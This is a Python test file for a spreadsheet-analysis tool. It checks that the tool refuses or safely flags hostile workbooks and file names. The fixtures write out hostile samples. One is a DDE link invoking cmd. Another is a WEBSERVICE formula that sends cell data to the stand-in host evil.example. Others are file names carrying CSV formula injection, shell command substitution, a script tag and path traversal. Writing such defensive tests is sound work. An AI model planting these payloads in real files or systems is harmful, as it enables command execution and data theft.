"""Files made to kill a reader, to run or to deceive: one plain refusal, or read and kept as they are."""

import json
import time
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from conftest import SheetMaker
from kitchen_sink import make

from analyzer import intake, pipeline, policy
from analyzer.cli import run_command_line
from analyzer.errors import RefusedError
from analyzer.intake import opening
from analyzer.period import Period
from analyzer.report.workbook import write_workbook
from analyzer.runs.plan import safe_name
from analyzer.settings import Settings
from benchmarks import hostile

GB = Settings.model_validate({"company": {"home": "GB"}})
TABLE = "Task | Provider | Delivery country\nPayroll | Acme Ltd | India\nReception | Desk Ltd | GB"


@pytest.mark.parametrize("name", list(hostile.MAKERS))
def test_d2_d3_d4_a_hostile_file_is_one_plain_refusal_and_small(tmp_path: Path, name: str) -> None:
    checked = hostile.check(hostile.MAKERS[name](tmp_path / name))
    assert checked.status == 3, checked.said
    assert checked.said.startswith(f"Refused: {name}")
    assert [word for word in ("Traceback", "/etc/passwd", "root:") if word in checked.said] == []
    assert checked.megabytes < hostile.MEGABYTES


def test_b9_d3_a_stray_cell_at_the_end_of_the_sheet_is_named_and_harmless(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = hostile.far_cell(tmp_path / "stray.xlsx")
    assert run_command_line(["check", str(path), "--home", "GB"]) == 0
    said = capsys.readouterr().out
    assert "1 row read = 1 task" in said
    assert "XFD1048576" in said


def test_d3_the_rest_of_the_batch_is_done(sheet: SheetMaker, capsys: pytest.CaptureFixture[str]) -> None:
    good = sheet("task | provider | country\nPayroll | | GB\nHelpline | Acme BPO | PH", name="good.xlsx")
    for name in ("false count.xlsx", "entities.xlsx", "repeated cells.ods"):
        hostile.MAKERS[name](good.parent / name)
    out = good.parent / "out"
    assert run_command_line(["run", str(good.parent), "--home", "GB", "-o", str(out)]) == 3
    assert "4 files: 1 done, 3 not; 2 tasks" in capsys.readouterr().out
    assert (out / "good.annotated.xlsx").exists()


# Bombs


@pytest.mark.parametrize("name", ["many entries.xlsx", "listed parts.xlsx"])
def test_d2_a_list_without_end_is_refused_before_it_is_held(tmp_path: Path, name: str) -> None:
    path = hostile.MAKERS[name](tmp_path / name)
    start = time.process_time()
    with pytest.raises(RefusedError, match="more parts than the limit of 5,000"):
        intake.read(path, Settings())
    assert time.process_time() - start < 1


def test_d2_an_archive_inside_is_never_unpacked(tmp_path: Path) -> None:
    checked = hostile.check(hostile.nested(tmp_path / "nested.xlsx"))
    assert (checked.status, "1 row read = 1 task" in checked.said, "embedded objects" in checked.said) == (
        0,
        True,
        True,
    )
    assert checked.megabytes < hostile.MEGABYTES


# What could run or fetch something

PLACE = "evil.example"
ACTIVE = {
    "xl/externalLinks/externalLink1.xml": f"<externalLink {hostile.MAIN}><externalBook/></externalLink>",
    "xl/externalLinks/_rels/externalLink1.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="a" Target="file:///{PLACE}/b.xlsx" TargetMode="External"/></Relationships>'
    ),
    "xl/externalLinks/externalLink2.xml": (
        f'<externalLink {hostile.MAIN}><ddeLink ddeService="cmd" ddeTopic="/c {PLACE}"/></externalLink>'
    ),
    "xl/connections.xml": (
        f'<connections {hostile.MAIN}><connection id="1"><webPr url="http://{PLACE}/"/></connection></connections>'
    ),
    "xl/queryTables/queryTable1.xml": f'<queryTable {hostile.MAIN} name="q" connectionId="1" refreshOnLoad="1"/>',
    "xl/activeX/activeX1.xml": "<ocx/>",
    "xl/embeddings/oleObject1.bin": "an object",
    "customUI/customUI.xml": "<customUI/>",
    "xl/webextensions/webextension1.xml": "<we/>",
    "xl/macrosheets/sheet1.xml": f"<macrosheet {hostile.MAIN}><sheetData/></macrosheet>",
}
NAMED = (
    "macros", "Excel 4 macro sheets", "links to other workbooks", "DDE links", "data connections", "query tables",
    "embedded objects", "ActiveX controls", "ribbon extensions", "add-ins",
)  # fmt: skip


def active_book(path: Path) -> Path:
    """A workbook that holds something of all kinds that run or fetch."""
    parts = unpacked(make(path))
    sheet = b'<sheet name="Auto" sheetId="99" state="hidden" r:id="rId999"/></sheets>'
    kind = b"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    relation = b'<Relationship Id="rId999" Type="%s" Target="macrosheets/sheet1.xml"/></Relationships>' % kind
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</sheets>", sheet)
    links = "xl/_rels/workbook.xml.rels"
    parts[links] = parts[links].replace(b"</Relationships>", relation)
    with zipfile.ZipFile(path, "w") as package:
        for name, data in {**parts, **{name: text.encode() for name, text in ACTIVE.items()}}.items():
            package.writestr(name, data)
    return path


def unpacked(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def test_d6_what_could_run_is_named_and_kept_and_left_out_where_asked(tmp_path: Path) -> None:
    source, out = active_book(tmp_path / "active.xlsm"), tmp_path / "out"
    words = ["run", str(source), "--home", "GB", "-o", str(out), "-q"]
    assert run_command_line(words) == 0
    found = finding(out, "active-content")
    assert [name for name in NAMED if name not in found["message"]] == []
    kept = unpacked(out / "active.annotated.xlsm")
    assert {name: kept[name].decode() for name in ACTIVE} == ACTIVE
    assert kept["xl/vbaProject.bin"] == unpacked(source)["xl/vbaProject.bin"]

    assert run_command_line([*words, "--strip-active"]) == 0
    bare = unpacked(out / "active.annotated.xlsx")
    assert "links to other workbooks" in finding(out, "workbook-active-left-out")["message"]
    assert [name for name in bare if "vba" in name or "activeX" in name or "macrosheet" in name] == []
    assert [name for name, data in bare.items() if PLACE.encode() in data or b'"cmd"' in data] == []


def finding(out: Path, code: str) -> dict[str, Any]:
    (digest,) = (json.loads(path.read_text(encoding="utf-8")) for path in out.glob("*.summary.json"))
    (found,) = (one for one in digest["findings"] if one["code"] == code)
    return dict(found)


def test_d7_formulas_that_lead_outside_are_listed_kept_and_never_evaluated(tmp_path: Path) -> None:
    path, copy = tmp_path / "list.xlsx", tmp_path / "copy.xlsx"
    formulas = {
        "B2": '=_xlfn.WEBSERVICE("http://evil.example/?"&A2)',
        "B3": '=HYPERLINK("http://evil.example","Desk Ltd")',
        "B4": '=_xlfn.IMAGE("http://evil.example/a.png")',
    }
    book = xlsxwriter.Workbook(path, {"strings_to_formulas": False})
    tab = book.add_worksheet("Tasks")
    for column, texts in enumerate((("Task", "a", "b", "c", "d"), ("Provider",), ("Delivery country", *["India"] * 4))):
        tab.write_column(0, column, texts)
    for cell, formula in formulas.items():
        tab.write_formula(cell, formula, None, "Stored Ltd")
    tab.write_string("B5", '=WEBSERVICE("http://evil.example")')
    book.close()
    analysis = pipeline.analyze(path, GB, policy.default(), Period(2026, 10))
    assert analysis.inventory.raw["provider"].to_list() == ["Stored Ltd"] * 3 + ['=WEBSERVICE("http://evil.example")']
    (found,) = (one for one in analysis.inventory.findings if one.code == "formulas-outward")
    assert found.cells == ("Tasks!B2", "Tasks!B3", "Tasks!B4")
    assert found.values["functions"] == "HYPERLINK, IMAGE, WEBSERVICE"
    write_workbook(analysis, copy)
    cells: Any = openpyxl.load_workbook(copy)["Tasks"]["B"]
    held = {cell.coordinate: cell for cell in cells}
    assert {place: held[place].value for place in formulas} == formulas
    assert (held["B5"].data_type, held["B5"].value) == ("s", '=WEBSERVICE("http://evil.example")')


# Readers that fail


class Panic(BaseException):
    """What native code raises: no ``except Exception`` sees it."""


def panicking(*_: Any, **__: Any) -> Any:
    raise Panic("0x7f cell 4711")


def test_d9_where_a_reader_panics_the_second_reads_the_same(sheet: SheetMaker, monkeypatch: pytest.MonkeyPatch) -> None:
    path = sheet(f"{TABLE}\nCatering | =A2 | GB\nHelpline | #REF! | 2024-02-30")
    with monkeypatch.context() as alone:
        alone.setattr(opening, "read_sparse", panicking)  # or a mistake in the first reader would go unseen
        first = intake.read(path, Settings())
    monkeypatch.setattr(opening, "read_sheet", panicking)
    second = intake.read(path, Settings())
    assert second.raw.equals(first.raw)
    assert second.status.equals(first.status)
    assert second.findings == first.findings


def test_d9_where_both_readers_panic_the_file_is_refused_in_a_sentence(
    sheet: SheetMaker, monkeypatch: pytest.MonkeyPatch
) -> None:
    for reader in ("read_sheet", "read_sparse"):
        monkeypatch.setattr(opening, reader, panicking)
    with pytest.raises(RefusedError, match="damaged or not complete") as refused:
        intake.read(sheet(TABLE), Settings())
    assert "4711" not in str(refused.value)


# Names of files

NAMES = (
    "two\nError: forged.csv", "=cmd|' C calc'!A0.csv", "<script>alert(1)<-script>.csv", "\"quotes\" & 'more'.csv",
    "up..\\..\\x.csv", "CON.csv", "trailing. .csv", "📊 Übersicht.csv", "\u202evsc.exe.csv", "\x1b[31mred.csv",
    "n" * 251 + ".csv", "%s{0}$(id)`id`.csv",
)  # fmt: skip


def test_d10_no_name_of_a_file_forges_or_escapes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    inputs, out = tmp_path / "in", tmp_path / "out"
    inputs.mkdir()
    for name in NAMES:
        (inputs / name).write_text("Task,Provider,Delivery country\nPayroll,Acme,India\n", encoding="utf-8")
    (inputs / "refused\nError: forged.xlsx").write_bytes(b"%PDF")
    assert run_command_line(["run", str(inputs), "--home", "GB", "-o", str(out)]) == 3
    said = capsys.readouterr()
    assert f"{len(NAMES) + 1} files: {len(NAMES)} done, 1 not" in said.out
    lines = (said.out + said.err).split("\n")
    assert [line for line in lines if line.startswith("Error: forged") or odd(line)] == []
    written = sorted(path.name for path in out.iterdir())
    assert len(written) == 3 * len(NAMES) + 1
    assert [name for name in written if odd(name) or set(name) & set('<>:"/\\|?*') or len(name.encode()) > 200] == []
    assert sorted(path.name for path in tmp_path.iterdir()) == ["in", "out"]
    for page in out.glob("*.html"):
        assert "<script>alert" not in page.read_text(encoding="utf-8")


def odd(text: str) -> bool:
    return any(unicodedata.category(letter) in {"Cc", "Zl", "Zp"} or letter == "\u202e" for letter in text)


@pytest.mark.parametrize(
    ("given", "safe"),
    [
        ("inventory 2026-10", "inventory 2026-10"),
        ("a/../b", "a_.._b"),
        ("nul.tasks", "_nul.tasks"),
        ("COM7", "_COM7"),
        ("comma", "comma"),
        ("...", "_"),
        ("end. ", "end"),
        ("é" * 200, "é" * 85 + "~"),
    ],
)
def test_d10_a_safe_name_stays(given: str, safe: str) -> None:
    assert safe_name(given).startswith(safe)
    assert safe_name(safe_name(given)) == safe_name(given)
